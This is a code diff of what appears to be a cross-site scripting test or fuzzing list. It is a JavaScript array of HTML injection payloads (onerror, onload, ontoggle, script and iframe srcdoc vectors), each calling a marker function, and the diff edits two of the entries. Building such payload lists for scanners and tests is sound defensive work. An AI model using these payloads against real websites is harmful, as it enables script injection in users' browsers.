@@ -2,14 +2,14 @@
 // several ways to run a program, behind one of several ways to get out of where a text stands.
 const ways = [
   (n) => `<img src=x onerror=f(${n})>`,
-  (n) => `<svg onload=f(${n})>`,
+  (n) => `<img alt=1 src=x onerror=f(${n})>`,
   (n) => `<video src=x onerror=f(${n})>`,
   (n) => `<audio src=x onerror=f(${n})>`,
   (n) => `<iframe onload=f(${n})>`,
   (n) => `<input type=image src=x onerror=f(${n})>`,
   (n) => `<details open ontoggle=f(${n})>x</details>`,
   (n) => `<script>f(${n})</script>`,
-  (n) => `<img src=x onerror="f(${n})" alt='`,
+  (n) => `<img src=x onerror="f(${n})" alt=''>`,
   (n) => `<svg><image href=x onerror=f(${n}) /></svg>`,
   (n) => `<iframe srcdoc="<script>parent.f(${n})</script>"></iframe>`,
   (n) => `<picture><img src=x onerror=f(${n})></picture>`,
